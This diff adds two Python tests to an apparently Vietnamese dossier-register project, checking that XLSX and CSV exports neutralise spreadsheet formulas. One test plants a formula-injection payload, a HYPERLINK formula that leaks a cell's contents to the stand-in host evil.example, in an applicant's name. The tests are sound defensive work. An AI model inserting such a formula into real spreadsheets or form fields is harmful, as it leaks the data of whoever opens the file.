@@ -481,3 +481,28 @@ def test_register_dossiers_loads_what_the_register_reads(register):
             date_from=register["date_from"], date_to=register["date_to"], dossiers=register_dossiers(**register)
         )
     assert len(rows) == 3 and len(queries) == 2
+
+
+def test_form07_xlsx_writes_an_applicants_formula_as_text(register):
+    """Security review, attack 6: an applicant named =HYPERLINK(…) became a live formula in the register."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&B8,"Xem")'
+    Dossier.objects.filter(code="000.20.01.H12-261125-0003").update(applicant_name=evil)
+    data = form07_register_xlsx(**register, dossiers=register_dossiers(**register))
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert any(str(c.value).startswith(evil) and c.data_type == "s" for c in cells)
+    assert not [c for c in cells if c.data_type == "f"]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_csv_text_neutralises_formulas():
+    from procedures.spreadsheet.cells import csv_text
+
+    assert [csv_text(v) for v in ["=1+1", "+84912", "-2", "@SUM(A1)", "\tx", "Nguyễn", None, 15]] == [
+        "'=1+1", "'+84912", "'-2", "'@SUM(A1)", "'\tx", "Nguyễn", "", "15",
+    ]  # fmt: skip
